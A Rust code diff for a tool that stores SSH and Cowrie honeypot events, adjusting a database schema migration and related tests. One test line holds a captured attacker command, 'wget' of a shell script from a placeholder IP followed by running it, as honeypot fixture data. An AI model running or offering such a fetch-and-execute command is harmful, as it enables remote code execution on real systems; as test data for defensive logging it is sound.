@@ -890,6 +890,7 @@ impl Db<'_> {
     fn to_schema_7(&self) {
         self.exec(match self {
             Db::Lite(_) => "DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; \
+                ALTER TABLE inputs DROP COLUMN sessions_until; CREATE INDEX sessions_last_seen ON sessions(last_seen); \
                 CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 7;",
             Db::Pg(_) => "DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; \
                 CREATE INDEX sessions_key ON sessions (pid, host, id); UPDATE sshmap_schema SET version = 7;",
@@ -969,7 +970,7 @@ fn sessions_table_equals_the_grouping_of_all_events_through_appends_and_rotation
     // A database from before the sessions table (schema 1) is migrated: its
     // events are grouped when it is opened.
     let c = rusqlite::Connection::open(&db).unwrap();
-    c.execute_batch("DROP TABLE sessions; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; ALTER TABLE events DROP COLUMN session; ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
+    c.execute_batch("DROP TABLE sessions; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; ALTER TABLE events DROP COLUMN session; ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; ALTER TABLE inputs DROP COLUMN sessions_until; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
     drop(c);
     let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
     assert!(
@@ -1334,7 +1335,7 @@ fn sqlite_keeps_cowrie_passwords_and_commands_and_migrates_an_older_store() {
         .any(|d| d.2.as_deref() == Some("cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh")));
     // Back to schema 6: no such columns.
     let c = rusqlite::Connection::open(&db).unwrap();
-    c.execute_batch("ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 6;")
+    c.execute_batch("ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; ALTER TABLE inputs DROP COLUMN sessions_until; CREATE INDEX sessions_last_seen ON sessions(last_seen); CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 6;")
         .unwrap();
     drop(c);
     let old = events(&db);
